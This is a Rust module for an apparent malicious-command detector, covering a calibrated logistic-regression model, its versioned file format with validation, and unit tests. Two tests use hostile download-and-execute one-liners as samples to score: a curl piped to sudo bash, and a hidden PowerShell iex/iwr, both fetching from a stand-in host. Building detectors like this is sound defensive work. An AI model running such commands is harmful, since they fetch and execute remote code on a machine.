//! The learned view: logistic regression over the hashed features of [`crate::features`],
//! trained here (the hot loop is ours: AdaGrad over sparse rows), calibrated with Platt
//! scaling on held-out texts, saved as a versioned file (`WPLD`, format version, postcard)
//! that the model registry stores and hot-swaps like the other models.
//!
//! Signature and decoder features may only raise the score (their weights are kept ≥ 0),
//! so finding a pattern or needing to decode a layer never makes a text look more benign.

use serde::{Deserialize, Serialize};

use crate::features::{FeatureSet, Features, Kind};

mod older;

pub const MAGIC: &[u8; 4] = b"WPLD";
pub const FORMAT_VERSION: u16 = 6;
/// Largest model file loaded.
pub const MAX_MODEL_BYTES: usize = 256 << 20;
/// Default table size: 2^18 buckets (2^20 ranked no better on the command corpus and ran
/// a third slower: the table lookups are cache misses).
pub const DEFAULT_BITS: u32 = 18;

/// Errors reading or writing a model file.
#[derive(Debug, thiserror::Error)]
pub enum ModelError {
    #[error("not a payload model file (no WPLD header)")]
    NotAModel,
    #[error(
        "payload model format version {0} is not supported (this build reads version {FORMAT_VERSION})"
    )]
    Version(u16),
    #[error("payload model file is larger than {MAX_MODEL_BYTES} bytes")]
    TooLarge,
    #[error("payload model file is damaged: {0}")]
    Decode(String),
    #[error("payload model is inconsistent: {0}")]
    Invalid(String),
}

/// How the model was trained and how it did on held-out texts.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct TrainingSummary {
    pub samples: usize,
    pub malicious: usize,
    pub benign: usize,
    pub epochs: usize,
    pub seed: u64,
    /// Held-out share used to calibrate and validate.
    pub validation_share: f64,
    pub validation_samples: usize,
    pub validation_auc: f64,
    pub validation_tpr_at_1pct_fpr: f64,
    pub validation_tpr_at_01pct_fpr: f64,
    /// FNV hash of the training texts and labels.
    pub data_hash: String,
    pub trained_at: String,
}

/// The trained model.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PayloadModel {
    pub features: FeatureSet,
    pub weights: Vec<f32>,
    /// Each bucket's scale: its inverse document frequency in the training texts, times how
    /// unevenly the two classes use it (`train::feature_scales`; models trained before that
    /// hold the idf alone); 0 for buckets seen in fewer than two (they carry no evidence,
    /// only collisions).
    pub idf: Vec<f32>,
    pub bias: f32,
    /// Platt scaling: P(malicious) = σ(a · margin + b).
    pub platt_a: f32,
    pub platt_b: f32,
    pub summary: TrainingSummary,
    /// Weight and idf side by side, built on load ([`PayloadModel::packed`]): one cache line
    /// per feature instead of two.
    #[serde(skip)]
    pub pairs: Vec<[f32; 2]>,
    /// The ATT&CK technique tagger, when the training data named techniques (format 2).
    pub techniques: Option<crate::technique::TechniqueTagger>,
    /// The training texts each pattern fired on, which temper the patterns' weights
    /// (format 3; [`crate::tempering`]).
    pub patterns: Option<crate::tempering::PatternCounts>,
    /// Boosted trees that weigh this model's score with the analysis (format 4;
    /// [`crate::combiner`]).
    pub combiner: Option<crate::combiner::Combiner>,
    /// Boosted trees over which buckets a text has, averaged into the view (format 6;
    /// [`crate::presence`]).
    pub presence: Option<crate::presence::PresenceTrees>,
}

/// A feature's share of a score.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Contribution {
    pub feature: String,
    pub weight: f32,
}

/// The model's view of one text.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ModelView {
    /// Calibrated probability that the text is malicious.
    pub probability: f32,
    /// The features that raised it most.
    pub raised_by: Vec<Contribution>,
    /// The features that lowered it most.
    pub lowered_by: Vec<Contribution>,
    /// The n-gram model's own probability, when a combiner weighed it with the analysis
    /// (`probability` is then the combiner's; `raised_by` and `lowered_by` stay the n-gram
    /// model's).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub text_probability: Option<f32>,
    /// The combiner's inputs that raised the probability most.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub combined_from: Vec<Contribution>,
    /// The presence trees' own probability, when the model has them (`probability` is then
    /// its mean with the n-gram model's or the combiner's).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub trees_probability: Option<f32>,
    /// The features present whose splits raised the trees' score most.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub trees_raised_by: Vec<Contribution>,
}

fn sigmoid(x: f32) -> f32 {
    1.0 / (1.0 + (-x).exp())
}

/// The value of each feature of a row: its idf, the row L2-normalised (TF-IDF with
/// presence for the term frequency).
pub fn row_values(idf: &[f32], f: &Features) -> Vec<f32> {
    let mut v: Vec<f32> = f
        .items
        .iter()
        .map(|i| idf.get(i.index as usize).copied().unwrap_or(0.0))
        .collect();
    let norm = v.iter().map(|x| x * x).sum::<f32>().sqrt();
    if norm > 0.0 {
        v.iter_mut().for_each(|x| *x /= norm);
    }
    v
}

impl PayloadModel {
    /// The row's TF-IDF values, as [`row_values`] gives them, read from the weight–idf
    /// pairs the assessment has just read (the separate idf table would be read cold).
    pub fn row_values(&self, f: &Features) -> Vec<f32> {
        if self.pairs.len() != self.weights.len() {
            return row_values(&self.idf, f);
        }
        let mut v: Vec<f32> = f
            .items
            .iter()
            .map(|i| self.pairs.get(i.index as usize).map_or(0.0, |p| p[1]))
            .collect();
        let norm = v.iter().map(|x| x * x).sum::<f32>().sqrt();
        if norm > 0.0 {
            v.iter_mut().for_each(|x| *x /= norm);
        }
        v
    }

    /// The model with its weight–idf pairs built (what loading and training return).
    pub fn packed(mut self) -> PayloadModel {
        self.pairs = self
            .weights
            .iter()
            .zip(&self.idf)
            .map(|(&w, &i)| [w, i])
            .collect();
        self
    }

    /// The raw margin (before calibration).
    pub fn margin(&self, f: &Features) -> f32 {
        let (mut dot, mut norm) = (0.0f32, 0.0f32);
        if self.pairs.len() == self.weights.len() {
            for i in &f.items {
                let [w, idf] = self
                    .pairs
                    .get(i.index as usize)
                    .copied()
                    .unwrap_or([0.0, 0.0]);
                dot += idf * w;
                norm += idf * idf;
            }
        } else {
            for i in &f.items {
                let k = i.index as usize;
                let idf = self.idf.get(k).copied().unwrap_or(0.0);
                dot += idf * self.weights.get(k).copied().unwrap_or(0.0);
                norm += idf * idf;
            }
        }
        if norm > 0.0 {
            self.bias + dot / norm.sqrt()
        } else {
            self.bias
        }
    }

    /// Calibrated probability and the features behind it (`explain` of them each way).
    pub fn assess(&self, f: &Features, explain: usize) -> ModelView {
        // One pass: the dot product, the norm, and the strongest contributions each way
        // (weight × idf; dividing by the row's norm later keeps their order).
        let packed = self.pairs.len() == self.weights.len();
        let (mut dot, mut norm) = (0.0f32, 0.0f32);
        let mut raising = Strongest::new(explain);
        let mut lowering = Strongest::new(explain);
        for (k, i) in f.items.iter().enumerate() {
            let at = i.index as usize;
            let [w, idf] = if packed {
                self.pairs.get(at).copied().unwrap_or([0.0, 0.0])
            } else {
                [
                    self.weights.get(at).copied().unwrap_or(0.0),
                    self.idf.get(at).copied().unwrap_or(0.0),
                ]
            };
            let c = w * idf;
            dot += c;
            norm += idf * idf;
            raising.offer(c, k);
            lowering.offer(-c, k);
        }
        let norm = norm.sqrt();
        let margin = if norm > 0.0 {
            self.bias + dot / norm
        } else {
            self.bias
        };
        let probability = sigmoid(self.platt_a * margin + self.platt_b);
        let scale = if norm > 0.0 { 1.0 / norm } else { 1.0 };
        let describe = |sign: f32| {
            move |&(c, k): &(f32, usize)| Contribution {
                feature: f.describe(&f.items[k]),
                weight: (sign * c * scale * 1000.0).round() / 1000.0,
            }
        };
        ModelView {
            probability,
            raised_by: raising.kept.iter().map(describe(1.0)).collect(),
            lowered_by: lowering.kept.iter().map(describe(-1.0)).collect(),
            text_probability: None,
            combined_from: Vec::new(),
            trees_probability: None,
            trees_raised_by: Vec::new(),
        }
    }

    /// The model file.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.weights.len() * 4 + 256);
        out.extend_from_slice(MAGIC);
        out.extend_from_slice(&FORMAT_VERSION.to_le_bytes());
        out.extend(postcard::to_stdvec(self).unwrap_or_default());
        out
    }

    /// Reads a model file, checking header, version, size and shape.
    pub fn from_bytes(bytes: &[u8]) -> Result<PayloadModel, ModelError> {
        if bytes.len() > MAX_MODEL_BYTES {
            return Err(ModelError::TooLarge);
        }
        if bytes.len() < 6 || &bytes[..4] != MAGIC {
            return Err(ModelError::NotAModel);
        }
        let version = u16::from_le_bytes([bytes[4], bytes[5]]);
        let decode = |e: postcard::Error| ModelError::Decode(e.to_string());
        let body = &bytes[6..];
        let mut m: PayloadModel = match version {
            FORMAT_VERSION => older::exactly(body).map_err(decode)?,
            other => older::read(other, body)
                .ok_or(ModelError::Version(other))?
                .map_err(decode)?,
        };
        m.features.validate().map_err(ModelError::Invalid)?;
        if let Some(t) = &m.techniques {
            t.validate().map_err(ModelError::Invalid)?;
        }
        if let Some(p) = &m.patterns {
            p.validate().map_err(ModelError::Invalid)?;
        }
        if let Some(c) = &mut m.combiner {
            c.validate().map_err(ModelError::Invalid)?;
            c.prepare();
        }
        if let Some(t) = &m.presence {
            t.validate().map_err(ModelError::Invalid)?;
            if t.bits != m.features.bits {
                return Err(ModelError::Invalid(format!(
                    "presence trees over 2^{} buckets in a model of 2^{}",
                    t.bits, m.features.bits
                )));
            }
        }
        if m.weights.len() != 1usize << m.features.bits || m.idf.len() != m.weights.len() {
            return Err(ModelError::Invalid(format!(
                "{} weights for a table of 2^{} buckets",
                m.weights.len(),
                m.features.bits
            )));
        }
        if !m
            .weights
            .iter()
            .chain(&m.idf)
            .chain([&m.bias, &m.platt_a, &m.platt_b])
            .all(|w| w.is_finite())
        {
            return Err(ModelError::Invalid(
                "a weight is not a finite number".into(),
            ));
        }
        Ok(m.packed())
    }

    /// Whether bytes start like a payload model file.
    pub fn is_model_file(bytes: &[u8]) -> bool {
        bytes.starts_with(MAGIC)
    }
}

/// The `k` strictly positive keys offered that are largest, largest first, with the index
/// each came with. One pass with a small sorted list: most keys fall below the smallest
/// kept and cost one comparison.
struct Strongest {
    k: usize,
    kept: Vec<(f32, usize)>,
}

impl Strongest {
    fn new(k: usize) -> Strongest {
        Strongest {
            k,
            kept: Vec::with_capacity(k),
        }
    }

    #[inline]
    fn offer(&mut self, key: f32, at: usize) {
        if key <= 0.0 || self.k == 0 {
            return;
        }
        if self.kept.len() == self.k {
            if self.kept.last().is_some_and(|l| key <= l.0) {
                return;
            }
            self.kept.pop();
        }
        let pos = self.kept.partition_point(|e| e.0 >= key);
        self.kept.insert(pos, (key, at));
    }
}

/// Keeps the one-sided features' weights at or above zero.
pub fn one_sided_mask(rows: &[Features], bits: u32) -> Vec<bool> {
    let mut mask = vec![false; 1 << bits];
    for r in rows {
        for f in &r.items {
            if Kind::one_sided(f.kind) {
                mask[f.index as usize] = true;
            }
        }
    }
    mask
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny() -> PayloadModel {
        PayloadModel {
            features: FeatureSet {
                bits: 8,
                ..FeatureSet::default()
            },
            weights: vec![0.5; 256],
            idf: vec![1.0; 256],
            bias: -1.0,
            platt_a: 1.0,
            platt_b: 0.0,
            summary: TrainingSummary::default(),
            pairs: Vec::new(),
            techniques: None,
            patterns: None,
            combiner: None,
            presence: None,
        }
        .packed()
    }

    #[test]
    fn the_strongest_are_kept_in_order() {
        let keys = [0.3, -1.0, 2.0, 0.0, 0.7, 2.0, 5.0, 0.1, 1.5];
        let mut s = Strongest::new(4);
        for (i, &k) in keys.iter().enumerate() {
            s.offer(k, i);
        }
        let got: Vec<f32> = s.kept.iter().map(|e| e.0).collect();
        assert_eq!(got, vec![5.0, 2.0, 2.0, 1.5]);
        let mut none = Strongest::new(0);
        none.offer(1.0, 0);
        assert!(none.kept.is_empty());
        let mut few = Strongest::new(5);
        for (i, k) in [-1.0, 0.0, 0.2].into_iter().enumerate() {
            few.offer(k, i);
        }
        assert_eq!(few.kept, vec![(0.2, 2)], "only positive keys");
    }

    #[test]
    fn explanations_are_the_largest_contributions_each_way() {
        let mut m = tiny();
        for (i, w) in m.weights.iter_mut().enumerate() {
            *w = ((i * 37) % 23) as f32 - 11.0;
        }
        let m = m.packed();
        let a = crate::Analyzer::new(None, crate::VerdictConfig::default()).examine(
            "curl -fsSL http://x.example/a.sh | sudo bash -s -- --quiet",
            None,
        );
        let f = crate::features::extract(&a, &m.features);
        let view = m.assess(&f, 3);
        let norm = f
            .items
            .iter()
            .map(|i| m.idf[i.index as usize].powi(2))
            .sum::<f32>()
            .sqrt();
        let mut all: Vec<f32> = f
            .items
            .iter()
            .map(|i| m.weights[i.index as usize] * m.idf[i.index as usize] / norm)
            .collect();
        all.sort_by(|a, b| b.total_cmp(a));
        let round = |x: f32| (x * 1000.0).round() / 1000.0;
        let raised: Vec<f32> = view.raised_by.iter().map(|c| c.weight).collect();
        let lowered: Vec<f32> = view.lowered_by.iter().map(|c| c.weight).collect();
        assert_eq!(
            raised,
            all.iter().take(3).map(|&x| round(x)).collect::<Vec<_>>()
        );
        assert_eq!(
            lowered,
            all.iter()
                .rev()
                .take(3)
                .map(|&x| round(x))
                .collect::<Vec<_>>()
        );
        assert!((view.probability - sigmoid(m.margin(&f))).abs() < 1e-5);
    }

    #[test]
    fn row_values_read_from_the_pairs_are_the_idf_tables() {
        let mut m = tiny();
        for (i, d) in m.idf.iter_mut().enumerate() {
            *d = 1.0 + (i % 7) as f32 / 3.0;
        }
        let m = m.packed();
        let a = crate::Analyzer::new(None, crate::VerdictConfig::default()).examine(
            "powershell -nop -w hidden -c iex (iwr http://x.example/a)",
            None,
        );
        let f = crate::features::extract(&a, &m.features);
        assert!(f.items.len() > 10);
        assert_eq!(m.row_values(&f), row_values(&m.idf, &f));
        // Without the pairs (a model built by hand), the idf table is read.
        let unpacked = PayloadModel {
            pairs: Vec::new(),
            ..m.clone()
        };
        assert_eq!(unpacked.row_values(&f), row_values(&m.idf, &f));
    }

    #[test]
    fn the_file_round_trips_and_damage_is_refused() {
        let m = tiny();
        let bytes = m.to_bytes();
        assert_eq!(PayloadModel::from_bytes(&bytes).unwrap(), m);
        assert!(matches!(
            PayloadModel::from_bytes(b"WMDL\x01\x00"),
            Err(ModelError::NotAModel)
        ));
        let mut v2 = bytes.clone();
        v2[4] = 9;
        assert!(matches!(
            PayloadModel::from_bytes(&v2),
            Err(ModelError::Version(9))
        ));
        assert!(PayloadModel::from_bytes(&bytes[..bytes.len() / 2]).is_err());
        let mut wrong = m.clone();
        wrong.weights.pop();
        assert!(matches!(
            PayloadModel::from_bytes(&wrong.to_bytes()),
            Err(ModelError::Invalid(_))
        ));
        let mut nan = m;
        nan.weights[3] = f32::NAN;
        assert!(matches!(
            PayloadModel::from_bytes(&nan.to_bytes()),
            Err(ModelError::Invalid(_))
        ));
    }

    /// The feature settings as formats 1 and 2 first wrote them: no `lines`.
    fn features_without_lines(f: &FeatureSet) -> (u32, u8, u8, bool, bool) {
        (f.bits, f.min_n, f.max_n, f.words, f.analysis)
    }

    /// The feature settings as formats 2 to 4 wrote them: no `launch`.
    fn features_v4(f: &FeatureSet) -> (u32, u8, u8, bool, bool, bool) {
        (f.bits, f.min_n, f.max_n, f.words, f.analysis, f.lines)
    }

    /// A model file of format `version` whose body is `body`.
    fn file(version: u16, body: impl Serialize) -> Vec<u8> {
        let mut out = MAGIC.to_vec();
        out.extend(version.to_le_bytes());
        out.extend(postcard::to_stdvec(&body).unwrap());
        out
    }

    /// A model as a file of a format before 5 reads back: images read as written.
    fn as_before_launch() -> PayloadModel {
        let mut m = tiny();
        m.features.launch = false;
        m
    }

    #[test]
    fn format_1_files_still_load_and_a_tagger_round_trips() {
        let mut m = as_before_launch();
        m.features.lines = false;
        // A version-1 file: the same fields without the tagger.
        let mut v1 = b"WPLD\x01\x00".to_vec();
        v1.extend(
            postcard::to_stdvec(&(
                features_without_lines(&m.features),
                &m.weights,
                &m.idf,
                m.bias,
                m.platt_a,
                m.platt_b,
                &m.summary,
            ))
            .unwrap(),
        );
        assert_eq!(PayloadModel::from_bytes(&v1).unwrap(), m);
        let mut tagged = m;
        tagged.techniques = Some(crate::technique::TechniqueTagger::new(
            4,
            vec!["T1059".into(), "T1218".into()],
            vec![0.1; 32],
            vec![0.0; 2],
        ));
        assert_eq!(
            PayloadModel::from_bytes(&tagged.to_bytes()).unwrap(),
            tagged
        );
        if let Some(t) = tagged.techniques.as_mut() {
            t.weights.pop();
        }
        assert!(matches!(
            PayloadModel::from_bytes(&tagged.to_bytes()),
            Err(ModelError::Invalid(_))
        ));
    }

    #[test]
    fn both_layouts_of_format_2_load_and_pattern_counts_round_trip() {
        let m = as_before_launch();
        let v2 = |features: Vec<u8>| {
            let mut out = b"WPLD\x02\x00".to_vec();
            out.extend(features);
            out.extend(
                postcard::to_stdvec(&(
                    &m.weights,
                    &m.idf,
                    m.bias,
                    m.platt_a,
                    m.platt_b,
                    &m.summary,
                    &m.techniques,
                ))
                .unwrap(),
            );
            out
        };
        // Written with the line-break setting.
        let with = v2(postcard::to_stdvec(&features_v4(&m.features)).unwrap());
        assert_eq!(PayloadModel::from_bytes(&with).unwrap(), m);
        // Written before it: read as collapsing line breaks.
        let without = v2(postcard::to_stdvec(&features_without_lines(&m.features)).unwrap());
        let old = PayloadModel::from_bytes(&without).unwrap();
        assert!(!old.features.lines);
        assert_eq!(old.weights, m.weights);
        // Pattern counts round-trip.
        let mut counted = m;
        let mut by_id = std::collections::BTreeMap::new();
        by_id.insert(
            "shutdown".to_string(),
            crate::tempering::Seen {
                benign: 40,
                malicious: 2,
            },
        );
        counted.patterns = Some(crate::tempering::PatternCounts { by_id });
        assert_eq!(
            PayloadModel::from_bytes(&counted.to_bytes()).unwrap(),
            counted
        );
    }

    #[test]
    fn format_3_files_load_without_a_combiner() {
        let mut m = as_before_launch();
        m.patterns = Some(crate::tempering::PatternCounts::default());
        let v3 = file(
            3,
            (
                features_v4(&m.features),
                &m.weights,
                &m.idf,
                m.bias,
                m.platt_a,
                m.platt_b,
                &m.summary,
                &m.techniques,
                &m.patterns,
            ),
        );
        let read = PayloadModel::from_bytes(&v3).unwrap();
        assert_eq!(read, m);
        assert!(read.combiner.is_none());
    }

    #[test]
    fn format_4_files_load_reading_images_as_written() {
        let m = as_before_launch();
        let v4 = file(
            4,
            (
                features_v4(&m.features),
                &m.weights,
                &m.idf,
                m.bias,
                m.platt_a,
                m.platt_b,
                &m.summary,
                &m.techniques,
                &m.patterns,
                &m.combiner,
            ),
        );
        let read = PayloadModel::from_bytes(&v4).unwrap();
        assert_eq!(read, m);
        assert!(!read.features.launch);
        // This build writes format 6, which a format-4 reader would refuse by its version,
        // and a new model reads images by their names.
        let new = tiny();
        assert!(new.features.launch);
        assert_eq!(&new.to_bytes()[4..6], &6u16.to_le_bytes());
        assert_eq!(PayloadModel::from_bytes(&new.to_bytes()).unwrap(), new);
    }
}
